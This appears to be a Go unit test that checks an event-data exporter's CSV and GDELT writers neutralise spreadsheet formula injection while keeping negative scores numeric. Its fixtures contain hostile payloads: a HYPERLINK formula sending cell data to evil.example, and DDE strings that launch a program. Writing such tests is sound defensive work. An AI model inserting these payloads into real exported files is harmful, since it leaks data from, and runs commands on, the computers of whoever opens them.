package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/annals-events/annals"
)

// TestCSVFormulaInjection: text cells that a spreadsheet would run as a
// formula are written as text; numbers, negative ones too, stay numbers.
func TestCSVFormulaInjection(t *testing.T) {
	e := annals.StoredEvent{ID: 7}
	e.Source, e.Target, e.Code, e.Goldstein, e.EventDate = "IRN", "PAK", "190", -10, "2024-01-16"
	e.SourceText = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	e.TargetText = "+cmd|' /C calc'!A0"
	e.Rule = "@SUM(1+1)"
	e.Evidence = []annals.Evidence{{URL: "-2+3+cmd|' /C calc'!A0", Sentence: "=1+1"}}
	for _, format := range []string{"csv", "gdelt"} {
		var b bytes.Buffer
		w, err := New(format, &b)
		if err != nil {
			t.Fatal(err)
		}
		if err := w.Write(e); err != nil {
			t.Fatal(err)
		}
		w.Close()
		r := csv.NewReader(&b)
		if format == "gdelt" {
			r.Comma = '\t'
		}
		r.FieldsPerRecord = -1
		r.LazyQuotes = true
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		sawNegative := false
		for _, rec := range recs {
			for _, c := range rec {
				if c != "" && strings.ContainsRune("=+@", rune(c[0])) || strings.HasPrefix(c, "-2+3") {
					t.Errorf("%s: cell %q would run as a formula", format, c)
				}
				if c == "-10.0" || c == "-10" {
					sawNegative = true
				}
			}
		}
		if !sawNegative {
			t.Errorf("%s: the Goldstein score -10 is no longer a plain number: %v", format, recs)
		}
	}
}
